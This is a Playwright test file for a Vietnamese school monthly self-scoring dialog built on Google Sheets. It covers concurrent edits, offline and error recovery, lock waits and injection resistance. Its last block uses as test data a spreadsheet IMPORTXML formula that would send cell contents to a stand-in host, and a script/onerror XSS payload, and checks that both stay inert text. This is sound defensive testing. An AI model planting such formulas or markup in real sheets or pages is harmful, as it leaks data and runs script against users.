/** Chấm điểm tháng when things go wrong: two people at once, a line that fails, text that pretends to be code. */
import { holdLock, LOCK_IDS } from '../../local/services/lock-service';
import {
  type DistrictWorld,
  fillSeptember,
  makeDistrict,
  samplePlans,
  type WorldSchool,
} from '../support/district-world';
import { Stage, type Window } from '../support/stage';
import { openScores, savedCells, settled } from './scores';

let world: DistrictWorld;
let school: WorldSchool;
let stage: Stage;

beforeAll(async () => {
  world = makeDistrict({ schools: samplePlans('MN') });
  [school] = world.schools as [WorldSchool];
  fillSeptember(school, 0.85);
  stage = await Stage.open(world.runtime);
});
afterEach(() => stage.closeWindows());
afterAll(() => stage.close());

const open = (): Promise<Window> => openScores(stage, school);
const points = ({ dialog }: Window, code: string) => dialog.getByLabel(`Điểm tự chấm ${code},`);

describe('two windows at once', () => {
  test.each([
    { choice: /^Giữ của/, stays: 1 },
    { choice: 'Lưu của tôi', stays: 0.5 },
  ])('The later one sees what the other saved and chooses: $choice', async ({ choice, stays }) => {
    const first = await open();
    const later = await open();
    await first.dialog.getByLabel('Ai đang thao tác?').selectOption({ index: 1 });
    await points(first, '1.2.5').fill('');
    await points(first, '1.2.5').fill('1');
    await first.dialog.getByRole('button', { name: /Minh chứng.*\(1\.2\.5\)/ }).click();
    await first.dialog.getByLabel('Ghi chú (1.2.5)').fill(`Theo biên bản ${stays}`);
    await settled(first.dialog);
    await points(later, '1.2.5').fill('0,5');
    const conflict = later.dialog.getByRole('alert').filter({ hasText: 'vừa lưu chỉ báo này' });
    await conflict.waitFor();
    expect(await conflict.getByRole('row', { name: /^Điểm tự chấm/ }).textContent()).toBe('Điểm tự chấm10,5');
    expect(await conflict.textContent()).toContain(`Theo biên bản ${stays}`);
    expect(await conflict.textContent()).toContain(school.plan.people[0]?.name);
    expect(savedCells(school, '1.2.5').selfPoints).toBe(1);
    await conflict.getByRole('button', { name: choice }).click();
    if (stays !== 1) await settled(later.dialog);
    expect(savedCells(school, '1.2.5').selfPoints).toBe(stays);
    expect(await points(later, '1.2.5').inputValue()).toBe(String(stays).replace('.', ','));
  });

  test('Counting again brings what the other window saved meanwhile, and keeps what is typed here', async () => {
    const first = await open();
    const later = await open();
    await points(first, '1.2.1').fill('1,5');
    await settled(first.dialog);
    await points(later, '1.2.2').fill('0,7');
    await later.dialog.getByRole('button', { name: 'Đếm lại' }).click();
    await later.dialog.getByText('Đang đếm lại từ các sổ…').waitFor({ state: 'detached' });
    expect(await points(later, '1.2.1').inputValue()).toBe('1,5');
    expect(await points(later, '1.2.2').inputValue()).toBe('0,7');
    await settled(later.dialog);
  });
});

test('What the workbook finds at submitting and this window did not know comes up with its place', async () => {
  const first = await open();
  const { dialog } = first;
  const accepts = dialog.getByRole('button', { name: /gợi ý của tiêu chí/ });
  while ((await accepts.count()) > 0) await accepts.first().click();
  for (const field of await dialog.getByLabel(/^Điểm tự chấm /).all())
    if ((await field.inputValue()) === '') await field.fill('1');
  await settled(dialog);
  await dialog.getByRole('button', { name: 'Kiểm tra và nộp' }).click();
  await dialog.getByLabel('Người nộp').selectOption({ index: 1 });
  await dialog.getByRole('button', { name: 'Nộp điểm tháng 9/2026', exact: true }).waitFor();
  // meanwhile somebody empties a field in the sheet
  school.hand.change('scores', 'indicator', '1.2.7', { selfPoints: '', selfState: '' });
  await dialog.getByRole('button', { name: 'Nộp điểm tháng 9/2026', exact: true }).click();
  await dialog.getByText(/^Chưa nộp được/).waitFor();
  await dialog.getByRole('button', { name: 'Đến chỉ báo 1.2.7', exact: true }).click();
  await dialog.getByText('Đang đếm lại từ các sổ…').waitFor({ state: 'detached' });
  expect(await points(first, '1.2.7').inputValue()).toBe('');
});

describe('a line that fails', () => {
  test('Offline is said and nothing is lost; back online it saves by itself', async () => {
    const { page, dialog } = await open();
    await page.context().setOffline(true);
    await dialog.getByLabel('Điểm tự chấm 1.2.7,').fill('1');
    const strip = dialog.getByRole('alert').filter({ hasText: 'Mất kết nối tới Google' });
    await strip.waitFor();
    expect(await dialog.getByText('1 chỉ báo chưa lưu', { exact: true }).count()).toBe(1);
    await page.context().setOffline(false);
    await strip.waitFor({ state: 'detached' });
    expect(savedCells(school, '1.2.7').selfPoints).toBe(1);
    expect(await dialog.getByLabel('Điểm tự chấm 1.2.7,').inputValue()).toBe('1');
  });

  test('An answer that got lost on the way is no conflict with oneself', async () => {
    const { page, dialog } = await open();
    await page.route(
      '**/call',
      async (route) => {
        await route.fetch();
        await route.abort();
      },
      { times: 1 },
    );
    await dialog.getByLabel('Điểm tự chấm 1.2.7,').fill('0,8');
    const strip = dialog.getByRole('alert').filter({ hasText: 'Mất kết nối tới Google' });
    await strip.waitFor();
    expect(savedCells(school, '1.2.7').selfPoints).toBe(0.8);
    await strip.waitFor({ state: 'detached' });
    expect(await dialog.getByText('Đã lưu', { exact: true }).count()).toBe(1);
    expect(await dialog.getByText('Giữ bên nào?').count()).toBe(0);
  });

  test('While another run holds the workbook the entries wait, and go in when it is free', async () => {
    const { dialog } = await open();
    const lock = LOCK_IDS.document(school.scriptId, school.workbookId);
    // the script waits ten seconds for it, in vain
    holdLock(world.workspace, lock, 12_000);
    await dialog.getByLabel('Điểm tự chấm 1.2.7,').fill('0,6');
    const strip = dialog.getByRole('alert').filter({ hasText: 'Sổ đang được một lượt chạy khác ghi' });
    await strip.waitFor();
    await strip.waitFor({ state: 'detached' });
    expect(savedCells(school, '1.2.7').selfPoints).toBe(0.6);
  });

  test.each([
    {
      trouble: 'A browser signed in to several Google accounts',
      message: 'PERMISSION_DENIED',
      says: 'cửa sổ ẩn danh',
    },
    {
      trouble: 'Consent refused',
      message: 'Authorization is required to perform that action.',
      says: 'Cho phép',
    },
    { trouble: 'Six minutes over', message: 'Exceeded maximum execution time', says: 'quá sáu phút' },
  ])('$trouble: the dialog says what to do, and keeps what was typed', async ({ message, says }) => {
    const window = await open();
    const { page, dialog } = window;
    const body = JSON.stringify({ ok: false, name: 'ScriptError', message });
    await page.route('**/call', (route) => route.fulfill({ contentType: 'application/json', body }));
    await points(window, '1.2.7').fill('0,9');
    await dialog.getByRole('button', { name: 'Đếm lại' }).click();
    await dialog.getByRole('alert').filter({ hasText: says }).first().waitFor();
    expect(await points(window, '1.2.7').inputValue()).toBe('0,9');
    await page.unroute('**/call');
    await dialog.getByRole('button', { name: 'Đếm lại' }).click();
    await settled(dialog);
    expect(savedCells(school, '1.2.7').selfPoints).toBe(0.9);
    await points(window, '1.2.7').fill('');
    await settled(dialog);
  });
});

describe('text that pretends to be code', () => {
  const FORMULA = '=IMPORTXML("https://la.example/?"&A1;"//a")';
  const MARKUP = '</script><script>window.broken = 1</script><img src="x" onerror="window.broken = 1">';

  test.each([
    { kind: 'formula', text: FORMULA },
    { kind: 'markup', text: MARKUP },
  ])('A $kind typed into any field stays text, in the sheet and in the dialog', async ({ text }) => {
    school.hand.type('staff', [{ name: `'${text}`, roles: 'Nhân viên CNTT' }]);
    const first = await open();
    const { dialog } = first;
    await dialog.getByLabel('Ai đang thao tác?').selectOption({ label: text });
    await points(first, '1.2.3').fill('0');
    await dialog.getByRole('button', { name: /Minh chứng.*\(1\.2\.2\)/ }).click();
    await dialog.getByLabel('Ghi chú (1.2.2)').fill(text);
    await dialog.getByLabel('Nội dung cần khắc phục (1.2.2)').fill(text);
    await dialog.getByLabel('Người làm (1.2.2)').fill(text);
    await dialog.getByLabel('Không áp dụng 1.2.2').check();
    await dialog.getByLabel('Lý do không áp dụng (1.2.2)').fill(text);
    const above = await fillAbove(first, text);
    await dialog.getByLabel('Đường dẫn minh chứng mới (1.2.2)').fill(text);
    await dialog.getByRole('button', { name: 'Thêm minh chứng (1.2.2)' }).click();
    expect(await dialog.getByText('không phải đường dẫn').textContent()).toContain('Chưa lưu.');
    await dialog.getByLabel('Đường dẫn minh chứng mới (1.2.2)').fill(`https://anh.example/${text.length}`);
    await dialog.getByLabel('Tên minh chứng mới (1.2.2)').fill(text);
    await dialog.getByRole('button', { name: 'Thêm minh chứng (1.2.2)' }).click();
    await dialog.getByRole('link', { name: text }).waitFor();
    await settled(dialog);
    const { note, toMend, toMendBy, notApplicableReason, evidence, changedBy } = savedCells(school, '1.2.2');
    expect(changedBy).toBe(text);
    expect({ note, toMend, toMendBy, notApplicableReason }).toEqual({
      note: text,
      toMend: text,
      toMendBy: text,
      notApplicableReason: text,
    });
    expect(evidence).toMatch(/^MC\d+ /);
    expect(String(evidence)).toContain(text);
    expect(savedCells(school, above).aboveReason).toBe(text);
    expect(formulasIn(world, school)).toEqual([]);
    await stage.closeWindows();

    const again = await open();
    expect(await again.dialog.getByLabel('Lý do không áp dụng (1.2.2)').inputValue()).toBe(text);
    expect(await again.dialog.locator('body').evaluate(() => 'broken' in window)).toBe(false);
  });
});

/** Types points above a suggestion and the text as the reason; answers the indicator's code. */
async function fillAbove(window: Window, text: string): Promise<string> {
  const code = '1.1.8';
  await points(window, code).fill('1');
  await window.dialog.getByLabel(`Lý do điểm tự chấm cao hơn điểm gợi ý (${code})`).fill(text);
  return code;
}

/** Formulas anywhere in the school's score sheet. */
function formulasIn({ workspace }: DistrictWorld, { workbookId }: WorldSchool): string[] {
  const sheets = workspace.spreadsheets.get(workbookId)?.sheets ?? [];
  const scores = sheets.find((sheet) => String(sheet.rows[0]?.[0]?.value ?? '').startsWith('thdt:scores@'));
  return (scores?.rows ?? []).flatMap((row) => row?.flatMap((cell) => cell?.formula ?? []) ?? []);
}
